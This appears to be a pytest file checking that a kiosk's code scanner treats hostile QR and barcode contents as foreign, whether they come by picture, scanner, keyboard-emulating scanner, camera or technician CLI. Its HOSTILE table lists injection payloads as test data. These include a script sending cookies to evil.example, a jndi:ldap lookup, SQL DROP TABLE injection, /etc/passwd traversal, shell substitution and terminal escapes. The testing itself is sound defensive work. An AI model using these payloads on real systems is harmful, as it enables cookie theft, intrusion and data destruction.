"""Fault 18: a malicious code is shown, by whichever way codes come in: it is not ours, does nothing, and the next slip is read."""

import json
import threading
from pathlib import Path

import pytest
from PIL import Image

from drivers.code_scanner import CameraCodeScanner
from drivers.codes import codes_in
from kiosk.cli import main
from kiosk.scanning import Judgement, Keys, KeysMeant, Scanned, SlipCode, judged, pressed, waited
from peripherals.code_scanner import ScanStatus
from peripherals.deadline import Deadline
from peripherals.secret import Secret
from tests.drivers.scanner_bench import SLIP, camera_showing, on_desk, qr, scanner_bench

HOSTILE = {
    "address": "https://bianmin.example/login?next=%2F",
    "scheme": "intent://scan/#Intent;scheme=bianmin;end",
    "script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "sql": "BM1:7F3K29Q8'; DROP TABLE outbox;--:01A20A0E",
    "format": "%s%s%s%n {0.__class__.__mro__} ${jndi:ldap://evil.example/a}",
    "path": "BM1:../../etc/passwd",
    "shell": "$(reboot)`reboot`|reboot",
    "terminal": "\x1b[2J\x1b]0;owned\x07",
    "printer": "\x1bp\x00\x19\xfa\x1di",
    "nul": "BM1:7F3K29Q8\x00:01A20A0E-1344-7E62-A0A5-7E2A88722969",
    "direction": "\u202e" + SLIP[::-1],
    "number of a resident": "21010519500101001X",
    "payment": "weixin://wxpay/bizpayurl?pr=AbCdEfG",
    "other words": "ALERT: this terminal is closed, pay at https://evil.example",
    "slip in more": "https://evil.example/?" + SLIP,
    "slip of the future": SLIP.replace("BM1", "BM9"),
}
as_parameter = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())


@as_parameter
def test_in_a_picture(text: str) -> None:
    (code,) = codes_in(qr(text.encode()))
    assert code.text == Secret(text)
    assert judged(code.text) is Judgement.NOT_OURS


def test_on_a_scanner_s_line(tmp_path: Path) -> None:
    with scanner_bench(tmp_path, "--aim", "]Q1") as bench:
        bench.opened()
        for text in HOSTILE.values():
            bench.do("scan", text=text)
            scan = bench.scan()
            assert scan.code is not None
            assert judged(scan.code.text) is Judgement.NOT_OURS
            assert text not in repr(scan)
        bench.do("scan", text=SLIP)
        assert isinstance(judged(Secret(bench.text())), SlipCode)


@as_parameter
def test_typed_by_a_scanner_that_poses_as_a_keyboard(text: str) -> None:
    keys, at_s = Keys(), 0.0
    meant: list[KeysMeant] = []
    for key in text + "\r":
        at_s += 0.004
        keys, now = pressed(keys, key, at_s)
        meant += now
    _, last = waited(keys, at_s + 1)
    scans = [*meant, *last]
    assert scans
    assert all(isinstance(scan, Scanned) and judged(scan.text) is Judgement.NOT_OURS for scan in scans)


def test_ten_thousand_letters_are_dropped(tmp_path: Path) -> None:
    with scanner_bench(tmp_path) as bench:
        bench.opened()
        ordered = threading.Thread(target=bench.do, args=["scan"], kwargs={"text": "A" * 10_000})
        ordered.start()
        scan = bench.scan(20)
        ordered.join()
        assert (scan.status, scan.code) == (ScanStatus.UNREADABLE, None)
        bench.do("scan", text=SLIP)
        assert bench.text() == SLIP


def test_before_a_camera() -> None:
    with camera_showing(on_desk(qr(HOSTILE["script"], 5))) as url:
        camera = CameraCodeScanner(url)
        scan = camera.scan(Deadline.after(10))
        camera.close()
        assert scan.code is not None
        assert judged(scan.code.text) is Judgement.NOT_OURS


@as_parameter
def test_at_a_technician_s_prompt_it_is_spelled_out(text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    Image.fromarray(qr(text.encode())).save(tmp_path / "code.png")
    assert main(["scan", "--source", str(tmp_path / "code.png")]) == 0
    said = capsys.readouterr().out
    assert said.startswith("not ours (qr): ")
    assert said.removesuffix("\n").isprintable()
    assert main(["scan", "--source", str(tmp_path / "code.png"), "--json"]) == 0
    body = json.loads(capsys.readouterr().out)
    assert (body["text"], body["judgement"], body["receipt_number"], body["application_id"]) == (text, "not_ours", None, None)
